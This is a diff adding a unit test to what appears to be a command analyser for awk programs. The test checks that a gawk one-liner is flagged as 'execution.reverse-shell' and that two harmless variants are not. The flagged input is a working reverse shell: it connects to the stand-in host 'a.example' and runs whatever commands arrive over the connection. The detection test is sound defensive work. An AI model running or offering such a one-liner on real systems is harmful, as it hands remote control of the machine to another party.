@@ -73,6 +73,17 @@ describe('commands, files and the environment are found', () => {
   ])('%j', (program, expected) => expect(brief('awk', program)).toEqual(expected))
 })
 
+test('what comes over a connection and is run gives the other side a shell', () => {
+  const opens = 'BEGIN{s="/inet/tcp/0/a.example/80";'
+  expect(brief('awk', `${opens}while((s |& getline c) > 0) while((c | getline l) > 0) print l |& s}`)).toContain(
+    'execution.reverse-shell',
+  )
+  expect(brief('awk', `${opens}print "x" |& s; while((s |& getline l) > 0) print l}`)).not.toContain(
+    'execution.reverse-shell',
+  )
+  expect(brief('awk', '{$1 | getline l; print l}')).not.toContain('execution.reverse-shell')
+})
+
 describe('what awks read differently, or load from elsewhere, is not understood', () => {
   test.each([
     '@load "x"',
